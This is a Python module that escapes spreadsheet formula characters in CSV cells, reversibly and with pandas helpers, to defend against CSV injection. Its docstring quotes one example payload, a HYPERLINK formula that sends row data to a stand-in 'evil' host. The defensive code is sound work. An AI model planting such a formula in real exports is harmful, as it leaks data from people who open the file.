"""CSV cells that a spreadsheet shows as text, never runs as a formula.

Spreadsheets run a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or a carriage
return) as a formula: a task named ``=HYPERLINK("http://evil/?"&A1, "open")`` in a CSV would become a live
link that leaks the row. As OWASP's CSV-injection advice says, such a text cell is written with a leading
apostrophe (shown as text, not part of the value in most spreadsheets). Numbers stay numbers, and a text
that is just a number (``-0.5``) stays as it is. The escape is reversible: :func:`original_cell`.
"""

from __future__ import annotations

import re
from typing import Any, Callable

import pandas as pd

_FORMULA = re.compile(r"'*[=+\-@\t\r]")
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value``, with a leading ``'`` when it is text a spreadsheet would run as a formula.

    Text already starting with apostrophes before such a character gets one more, so that
    :func:`original_cell` gives every value back exactly.
    """
    if isinstance(value, str) and _FORMULA.match(value) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def original_cell(value: Any) -> Any:
    """The value :func:`safe_cell` escaped (a cell read back from a CSV written here)."""
    if isinstance(value, str) and value.startswith("'") and _FORMULA.match(value[1:]) \
            and not _NUMBER.fullmatch(value[1:]):
        return value[1:]
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell (and column name) passed through :func:`safe_cell`."""
    return _map_text(frame, safe_cell)


def original_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` read back from a CSV written with :func:`safe_frame`, every cell as it was."""
    return _map_text(frame, original_cell)


def _map_text(frame: pd.DataFrame, cell: Callable[[Any], Any]) -> pd.DataFrame:
    out = frame.copy()
    for column in out.columns:
        if pd.api.types.is_object_dtype(out[column]) or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(cell)
    out.columns = [cell(c) for c in out.columns]
    return out
